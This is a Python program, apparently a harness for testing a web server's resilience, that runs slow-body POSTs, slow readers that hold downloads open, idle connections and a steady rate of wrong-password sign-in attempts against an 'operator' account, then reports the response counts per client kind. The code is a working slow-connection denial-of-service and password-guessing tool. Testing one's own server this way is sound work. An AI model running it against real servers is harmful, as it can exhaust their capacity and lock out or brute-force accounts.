"""Clients that occupy a web server and never read or send as they should, in one cheap process.

The program reads an ``Attack`` as a JSON object from standard input. At its end it prints a
``Seen`` as one line of JSON: for each kind of client, how often each result occurred.
"""

import asyncio
import json
import socket
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field, fields

ESTABLISHED = 1
"""The state of an open connection in the kernel's ``tcp_info``."""
RECEIVE_BUFFER_BYTES = 4096
PAUSE_SECONDS = 1.0
UNANSWERED_SECONDS = 30


@dataclass(frozen=True, slots=True)
class Attack:
    """How many connections of each kind, and for how long.

    Attributes:
        passwords: wrong passwords per second.
        log_path: the path that slow readers download.
        cookie: the ``Cookie`` header of the slow readers, who are signed in.
        seconds: the duration of the attack.
    """

    host: str
    port: int
    slow_bodies: int
    slow_readers: int
    idle: int
    passwords: float
    log_path: str
    cookie: str
    csrf_token: str
    seconds: float


@dataclass(slots=True)
class Seen:
    """How often each result occurred, for each kind of client.

    A result is an HTTP status, "200, then closed", "closed", "open" (at the end of the attack) or
    "unanswered".
    """

    slow_bodies: Counter[str] = field(default_factory=Counter)
    slow_readers: Counter[str] = field(default_factory=Counter)
    idle: Counter[str] = field(default_factory=Counter)
    passwords: Counter[str] = field(default_factory=Counter)


class Attackers:
    """Runs one ``Attack``."""

    def __init__(self, attack: Attack) -> None:
        self._attack = attack
        self._seen = Seen()

    async def run(self) -> Seen:
        attack, seen = self._attack, self._seen
        tasks = [
            *(self._again(self._slow_body, seen.slow_bodies) for _ in range(attack.slow_bodies)),
            *(
                self._again(self._slow_reader, seen.slow_readers)
                for _ in range(attack.slow_readers)
            ),
            *(self._again(self._idle, seen.idle) for _ in range(attack.idle)),
            self._passwords(),
        ]
        running = [asyncio.create_task(task) for task in tasks]
        await asyncio.sleep(attack.seconds)
        for task in running:
            task.cancel()
        await asyncio.gather(*running, return_exceptions=True)
        return seen

    async def _again(
        self, connect: Callable[[socket.socket], Awaitable[str]], seen: Counter[str]
    ) -> None:
        """Open a new connection whenever the server has ended the last one."""
        while True:
            with socket.socket() as connection:
                connection.settimeout(0)
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER_BYTES)
                try:
                    address = (self._attack.host, self._attack.port)
                    await asyncio.get_running_loop().sock_connect(connection, address)
                    result = await connect(connection)
                except OSError:
                    result = "closed"
                except asyncio.CancelledError:
                    seen["open"] += 1
                    raise
            seen[result] += 1
            await asyncio.sleep(PAUSE_SECONDS)

    async def _slow_body(self, connection: socket.socket) -> str:
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(connection, self._sign_in_head(length=1000))
        response = asyncio.ensure_future(loop.sock_recv(connection, RECEIVE_BUFFER_BYTES))
        try:
            while not response.done():
                await loop.sock_sendall(connection, b"x")
                await asyncio.wait([response], timeout=PAUSE_SECONDS)
            return _status(await response)
        finally:
            response.cancel()

    async def _slow_reader(self, connection: socket.socket) -> str:
        loop = asyncio.get_running_loop()
        head = self._head(f"GET {self._attack.log_path}", f"Cookie: {self._attack.cookie}")
        await loop.sock_sendall(connection, head)
        status = _status(await loop.sock_recv(connection, 64))
        if status != "200":
            await asyncio.sleep(5 * PAUSE_SECONDS)  # as Retry-After says
            return status
        while _is_open(connection):
            await asyncio.sleep(PAUSE_SECONDS)
        return "200, then closed"

    async def _idle(self, connection: socket.socket) -> str:
        return _status(await asyncio.get_running_loop().sock_recv(connection, 64))

    async def _passwords(self) -> None:
        if not self._attack.passwords:
            return
        async with asyncio.TaskGroup() as group:
            loop = asyncio.get_running_loop()
            due = loop.time()
            while True:
                group.create_task(self._password())
                due += 1 / self._attack.passwords
                await asyncio.sleep(due - loop.time())

    async def _password(self) -> None:
        token = self._attack.csrf_token
        body = f"csrfmiddlewaretoken={token}&username=operator&password=wrong"
        head = self._sign_in_head(len(body))
        result = "unanswered"
        try:
            async with asyncio.timeout(UNANSWERED_SECONDS):
                result = await self._send(head + body.encode())
        except (OSError, TimeoutError):
            pass
        finally:
            self._seen.passwords[result] += 1

    async def _send(self, request: bytes) -> str:
        reader, writer = await asyncio.open_connection(self._attack.host, self._attack.port)
        try:
            writer.write(request)
            return _status(await reader.read(64))
        finally:
            writer.close()

    def _sign_in_head(self, length: int) -> bytes:
        return self._head(
            "POST /sign-in/",
            "Content-Type: application/x-www-form-urlencoded\r\n"
            f"Cookie: csrftoken={self._attack.csrf_token}\r\nContent-Length: {length}",
        )

    def _head(self, line: str, headers: str) -> bytes:
        host = f"{self._attack.host}:{self._attack.port}"
        return f"{line} HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n\r\n".encode()


def _status(response: bytes) -> str:
    return response[9:12].decode() if response.startswith(b"HTTP/1.") else "closed"


def _is_open(connection: socket.socket) -> bool:
    """Whether the connection is open. The kernel knows; a read would make the client a fast one."""
    if not hasattr(socket, "TCP_INFO"):
        return True
    return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == ESTABLISHED


def main() -> None:
    attack = Attack(**json.load(sys.stdin))
    seen = asyncio.run(Attackers(attack).run())
    print(json.dumps({kind.name: getattr(seen, kind.name) for kind in fields(seen)}))


if __name__ == "__main__":
    main()
